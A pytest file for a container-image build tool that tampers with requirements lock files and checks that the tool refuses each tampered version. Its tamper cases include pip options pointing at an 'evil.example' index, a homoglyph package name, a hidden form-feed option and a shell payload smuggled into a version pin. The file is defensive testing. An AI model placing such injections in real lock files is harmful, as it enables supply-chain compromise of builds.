"""A lock is accepted only as `builder lock` writes it (hardening #14, finding 6).

pip obeys more than pins in a requirements file, and the lock's pins reach Dockerfile labels, so
every committed lock is read line for line: `lock --check` and `render` refuse an edited hash, a
removed line, an added package, a pip option line, CRLF, a lookalike character or a pin that is not
this image's, naming the file and line; `render` never blesses one. No network, no Docker."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import threading
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from builder.compat.rules import table
from builder.lock import files
from builder.lock.target import LockTarget, target_for
from builder.spec.select import parse_select, select
from builder.util.errors import UserError
from builder.workspace import Workspace, read_lock
from tests.conftest import one_line_error

ROOT = Path(__file__).resolve().parents[1]
IMAGE = "jax0.10.2-cu128-py3.12-ubuntu24.04"  # requires jax[cuda12]==0.10.2 and jaxlib==0.10.2; pins cuDNN (a label)
LOCK = f"images/{IMAGE}/requirements.lock"
RunCli = Callable[..., Result]
H = "f" * 64


def reseal(text: str) -> str:
    """The edit of someone who also rewrites the body digest (it binds the body; it is not a signature)."""
    head, body = text.split("\n", 5)[:5], text.split("\n", 5)[5]
    head[4] = "# body: sha256:" + hashlib.sha256(body.encode()).hexdigest()
    return "\n".join(head) + "\n" + body


def line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.split("\n"), 1) if needle in line)


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The embedded matrix with its committed images/, worked on from a copy."""
    shutil.copyfile(ROOT / "matrix.yaml", tmp_path / "matrix.yaml")
    shutil.copytree(ROOT / "images", tmp_path / "images")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# ---------------------------------------------------------------- the committed locks


def test_every_committed_lock_is_exactly_what_builder_lock_writes_for_its_image() -> None:
    ws = Workspace(ROOT / "matrix.yaml")
    checked = 0
    for spec in ws.decided.images:
        if spec.lock is None:
            continue
        where = f"images/{spec.id}/requirements.lock"
        contents = files.read(spec.lock.text, where)
        assert files.write(contents) == spec.lock.text, where
        files.verify(spec.lock, target_for(spec, table()), where)
        checked += 1
    assert checked >= 30


# ---------------------------------------------------------------- tampered locks, at both CI gates

Tamper = Callable[[str], str]


def _swap_hash_digit(text: str) -> str:
    i = text.index("--hash=sha256:") + len("--hash=sha256:")
    return text[:i] + ("0" if text[i] != "0" else "1") + text[i + 1 :]


def _drop_line(needle: str) -> Tamper:
    return lambda text: "\n".join(line for line in text.split("\n") if needle not in line)


def _append(extra: str) -> Tamper:
    return lambda text: text + extra


def _after_header(extra: str) -> Tamper:
    return lambda text: "\n".join(text.split("\n")[:5]) + "\n" + extra + "\n" + text.split("\n", 5)[5]


def _replace(old: str, new: str, *, sealed: bool = False) -> Tamper:
    def edit(text: str) -> str:
        assert old in text, old
        changed = text.replace(old, new, 1)
        return reseal(changed) if sealed else changed

    return edit


ADDED = f"zz-evil==1.0 \\\n    --hash=sha256:{H}\n    # via -r requirements.in\n"
# name -> (the edit, text on (or the number of) the line the error must name (None: the body digest line), words in the message)
TAMPERS: dict[str, tuple[Tamper, str | int | None, str]] = {
    "an edited hash": (_swap_hash_digit, None, "do not match the body digest"),
    "a removed hash line": (_drop_line("--hash=sha256:bf77428a"), None, "do not match the body digest"),
    "a removed package": (lambda t: re.sub(r"(?m)^nvidia-nccl-cu12==.*\n(?: {4}.*\n)+", "", t), None, "do not match the body digest"),
    "an added package": (_append(ADDED), None, "do not match the body digest"),
    "an added package, digest rewritten": (lambda t: reseal(t + ADDED), "zz-evil==1.0", "which does not ask for it"),
    "an unreachable package, digest rewritten": (
        lambda t: reseal(t + ADDED.replace("-r requirements.in", "zz-other")),
        "zz-evil==1.0",
        "which the lock does not pin",
    ),
    "a package nothing requires, digest rewritten": (
        lambda t: reseal(t + ADDED.replace("    # via -r requirements.in\n", "    # via\n")),
        "zz-evil==1.0",
        "nothing the image requires needs zz-evil",
    ),
    "--extra-index-url at the end": (_append("--extra-index-url https://evil.example/simple\n"), "--extra-index-url", "is a pip option"),
    "--index-url after the header": (_after_header("--index-url https://evil.example/simple"), "--index-url", "is a pip option"),
    "-r another file": (_after_header("-r /etc/other.txt"), "-r /etc/other.txt", "`-r` is a pip option"),
    "-c another file": (_after_header("-c constraints.txt"), "-c constraints.txt", "`-c` is a pip option"),
    "-e an editable": (_append("-e git+https://evil.example/x.git#egg=x\n"), "-e git+", "`-e` is a pip option"),
    "-f find-links": (_append("-f https://evil.example/wheels\n"), "-f https", "`-f` is a pip option"),
    "--trusted-host": (_append("    --trusted-host evil.example\n"), "--trusted-host", "`--trusted-host` is a pip option"),
    "an option hidden after a form feed": (
        _replace("    # via -r requirements.in\n", "    # via -r requirements.in\x0c--extra-index-url https://evil.example/simple\n"),
        "\x0c",
        "the character '\\x0c'",
    ),
    "CRLF line ends": (lambda t: t.replace("\n", "\r\n"), "GENERATED", "carriage return"),
    "a Cyrillic a in a name": (_replace("jaxlib==0.10.2", "j\u0430xlib==0.10.2", sealed=True), "xlib==0.10.2", "the character '\u0430'"),
    "a shell payload as cuDNN's version": (
        _replace("nvidia-cudnn-cu12==9.28.0.42", 'nvidia-cudnn-cu12==9.1"$HOME"`id`', sealed=True),
        "nvidia-cudnn-cu12==9.1",
        "not a line `builder lock` writes",
    ),
    "a local version as cuDNN's (it would be a label)": (
        _replace("nvidia-cudnn-cu12==9.28.0.42", "nvidia-cudnn-cu12==9.28.0.42+evil", sealed=True),
        "nvidia-cudnn-cu12==9.28.0.42+evil",
        "the io.builder.cudnn label takes a plain release",
    ),
    "a top-level pin changed, digest rewritten": (
        _replace("jaxlib==0.10.2", "jaxlib==0.10.1", sealed=True),
        "jaxlib==0.10.1",
        "is not the jaxlib==0.10.2 the image requires",
    ),
    "a release in another spelling, digest rewritten": (
        _replace("jaxlib==0.10.2", "jaxlib==0.10.02", sealed=True),
        "jaxlib==0.10.02",
        "expected 'jaxlib==0.10.2",
    ),
    "packages out of order, digest rewritten": (
        lambda t: reseal(re.sub(r"(?ms)^(jax==.*?)(^jax-cuda12-pjrt==.*?)(^jax-cuda12-plugin==)", r"\2\1\3", t)),
        "jax-cuda12-pjrt==",
        "expected 'jax==0.10.2",
    ),
    "a duplicate hash, digest rewritten": (
        lambda t: reseal(
            t.replace(
                "--hash=sha256:bf77428a",
                "--hash=sha256:724d73c4678d8b06f6a6ab4db1b8a2fea8cd4f1e2c2564f99601634ec7b8d1c6 \\\n    --hash=sha256:bf77428a",
                1,
            )
        ),
        8,  # jax==0.10.2 on line 6, its first hash on 7, the repeat on 8
        "not in the form",
    ),
    "another image's header": (
        _replace(f"for {IMAGE}:", "for jax0.10.2-cu130-py3.12-ubuntu24.04:"),
        "re-resolves it",
        "not in the form",
    ),
    "the old format, without a body digest": (
        lambda t: "\n".join(
            line.replace("verifies it.", "compares its inputs.") for line in t.split("\n") if not line.startswith("# body:")
        ),
        "compares its inputs",
        "before locks carried a body digest",
    ),
    "a package without hashes, digest rewritten": (
        lambda t: reseal(t + "zz-evil==1.0\n    # via -r requirements.in\n"),
        "zz-evil==1.0",
        "zz-evil has no --hash=sha256: line",
    ),
    "a comment in place of a hash": (
        _replace(
            "    --hash=sha256:724d73c4678d8b06f6a6ab4db1b8a2fea8cd4f1e2c2564f99601634ec7b8d1c6 \\\n    --hash=sha256:bf77428a",
            "    # x\n    --hash=sha256:bf77428a",
            sealed=True,
        ),
        "    # x",
        "not a line",
    ),
    "a trailing space": (_replace("jaxlib==0.10.2 \\", "jaxlib==0.10.2 \\ ", sealed=True), "jaxlib==0.10.2 \\ ", "not a line"),
    "cut short": (lambda t: t[: t.index("# body:")], None, "cut short"),
}


@pytest.mark.parametrize("name", TAMPERS)
def test_a_tampered_lock_is_refused_by_lock_check_and_render_naming_its_line(name: str, repo: Path, cli: RunCli) -> None:
    edit, needle, words = TAMPERS[name]
    path = repo / LOCK
    tampered = edit(path.read_text(encoding="utf-8"))
    path.write_bytes(tampered.encode("utf-8"))
    before = tree(repo / "images")
    for command in (("lock", "--check"), ("render",), ("render", "--check"), ("plan",)):
        found = one_line_error(cli("--matrix", "matrix.yaml", *command))
        want = 5 if needle is None else needle if isinstance(needle, int) else line_of(tampered, needle)
        assert (found["file"], int(found["line"])) == (LOCK, want), (command, found[0])
        assert words in found["what"], (command, found[0])
    assert tree(repo / "images") == before, "render changed images/ (it blessed the tampered lock)"


def test_a_lock_copied_from_another_image_is_refused_even_while_stale(repo: Path, cli: RunCli) -> None:
    """Its own inputs line makes it stale (so no pin check runs), but it names another image."""
    shutil.copyfile(repo / "images/jax0.10.2-cu130-py3.12-ubuntu24.04/requirements.lock", repo / LOCK)
    found = one_line_error(cli("--matrix", "matrix.yaml", "render"))
    assert (found["file"], found["line"]) == (LOCK, "1")
    assert "is the lock of jax0.10.2-cu130-py3.12-ubuntu24.04, not of " + IMAGE in found["what"]


def test_a_selection_decides_only_its_images_and_refuses_a_tampered_lock_among_them(repo: Path) -> None:
    """`--select` and the default selection read and check the locks of the images they name, not
    the whole matrix's (workspace.py `decide`): the same specs as selecting from the decided plan,
    another image's tampered lock does not stop them, and their own is refused at its line."""
    whole = Workspace(repo / "matrix.yaml")
    for expr in (f"id={IMAGE}", "stack=jax", "base=cuda13-debian12", "line=cuda13-debian12-py3.11-amd64", "os=debian13", "python=3.12"):
        lazy = Workspace(repo / "matrix.yaml").selected(expr, use_default=False)
        assert lazy, expr
        assert lazy == whole.hashed(select(whole.decided.images, parse_select(expr))), expr
    assert Workspace(repo / "matrix.yaml").selected(None, use_default=True) == whole.hashed(whole.default_selection())
    path = repo / LOCK
    path.write_bytes(_swap_hash_digit(path.read_text(encoding="utf-8")).encode("utf-8"))
    other = next(s for s in whole.decided.images if s.id != IMAGE and s.lock is not None and s.line is None)
    ws = Workspace(repo / "matrix.yaml")
    assert [s.id for s in ws.selected(f"id={other.id}", use_default=False)] == [other.id]
    assert ws.selected(f"id={other.id}", use_default=False)[0].lock == other.lock
    with pytest.raises(UserError, match="do not match the body digest") as refused:
        ws.selected(f"id={IMAGE}", use_default=False)
    assert refused.value.file == LOCK
    with pytest.raises(UserError, match="do not match the body digest"):
        Workspace(repo / "matrix.yaml").decided  # noqa: B018 - render, lock --check and plan read every lock


def test_the_untampered_copy_passes_both_gates(repo: Path, cli: RunCli) -> None:
    """The control for the cases above: the same commands on the unedited copy succeed."""
    assert cli("--matrix", "matrix.yaml", "lock", "--check").exit_code == 0
    assert cli("--matrix", "matrix.yaml", "render", "--check").exit_code == 0


# ---------------------------------------------------------------- writing


def test_uv_output_with_an_option_line_other_than_its_sources_is_not_made_a_lock() -> None:
    resolved = f"numba==0.68.0 \\\n    --hash=sha256:{H}\n    # via -r requirements.in\n"
    for option in ("--trusted-host evil.example", "-e git+https://evil.example/x.git", "-r /tmp/other.txt"):
        with pytest.raises(UserError, match="is a pip option") as refused:
            files.lock_text("img", "sha256:" + "0" * 64, "3.11", "x86_64-manylinux_2_36", resolved + option + "\n")
        assert refused.value.file == "uv's output"
    text = files.lock_text(
        "img", "sha256:" + "0" * 64, "3.11", "x86_64-manylinux_2_36", "--index-url https://pypi.org/simple\n\n" + resolved
    )
    assert files.load(text, "x").pins == (("numba", "0.68.0"),)


def test_a_lock_binds_its_body_with_a_digest_written_by_lock_text() -> None:
    resolved = f"numba==0.68.0 \\\n    --hash=sha256:{H}\n    # via -r requirements.in\n"
    text = files.lock_text("img", "sha256:" + "0" * 64, "3.11", "x86_64-manylinux_2_36", resolved)
    body = text.split("\n", 5)[5]
    assert text.split("\n")[4] == "# body: sha256:" + hashlib.sha256(body.encode()).hexdigest()
    assert files.write(files.read(text, "x")) == text


def test_a_folder_or_a_fifo_where_a_lock_goes_is_no_lock_and_never_hangs(tmp_path: Path) -> None:
    """Both are refused by render as files it did not write; reading them must neither crash
    (a folder: os.fdopen raised IsADirectoryError) nor block (a FIFO: open waited for a writer)."""
    folder = tmp_path / "folder.lock"
    folder.mkdir()
    assert read_lock(folder) is None
    fifo = tmp_path / "fifo.lock"
    os.mkfifo(fifo)
    found: list[object] = []
    reader = threading.Thread(target=lambda: found.append(read_lock(fifo)), daemon=True)
    reader.start()
    reader.join(timeout=10)
    assert not reader.is_alive(), "reading a FIFO where a lock goes blocked"
    assert found == [None]


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        (
            "nvidia-cublas==13.1.1.3 ",
            "nvidia-cublas==13.3.0.0 ",
            "nvidia-cublas==13.3.0.0 breaks the image's constraint nvidia-cublas<13.2.0.9",
        ),
        ("nvidia-cuda-runtime==13.0.96 ", "nvidia-cuda-runtime==1!13.0.96 ", "the io.builder.cuda-runtime label takes a plain release"),
    ],
)
def test_a_resealed_lock_still_keeps_to_the_images_constraints_and_label_grammar(
    repo: Path, cli: RunCli, old: str, new: str, words: str
) -> None:
    """A CUDA-from-wheels image: its constraints.txt keeps the CUDA wheels on its CUDA, so a lock
    that pins past them is refused even with its digest rewritten."""
    path = repo / "images/jax0.10.2-cu130-py3.11-debian12/requirements.lock"
    tampered = _replace(old, new, sealed=True)(path.read_text(encoding="utf-8"))
    path.write_text(tampered, encoding="utf-8")
    found = one_line_error(cli("--matrix", "matrix.yaml", "render"))
    assert int(found["line"]) == line_of(tampered, new.strip()) and words in found["what"], found[0]


def test_a_requirement_whose_marker_leaves_it_out_on_the_target_is_not_required_in_the_lock() -> None:
    resolved = f"numba==0.68.0 \\\n    --hash=sha256:{H}\n    # via -r requirements.in\n"
    target = LockTarget("img", ("numba==0.68.0", 'pywin32==306; sys_platform == "win32"'), (), "3.11", "x86_64-manylinux_2_36", ())
    lock = files.load(files.lock_text("img", target.inputs, "3.11", "x86_64-manylinux_2_36", resolved), "x")
    files.verify(lock, target, "x")
    with pytest.raises(UserError, match="the image requires scipy==1.14.1, which the lock does not pin"):
        grown = LockTarget("img", ("numba==0.68.0", "scipy==1.14.1"), (), "3.11", "x86_64-manylinux_2_36", ())
        files.verify(files.load(files.lock_text("img", grown.inputs, "3.11", "x86_64-manylinux_2_36", resolved), "x"), grown, "x")
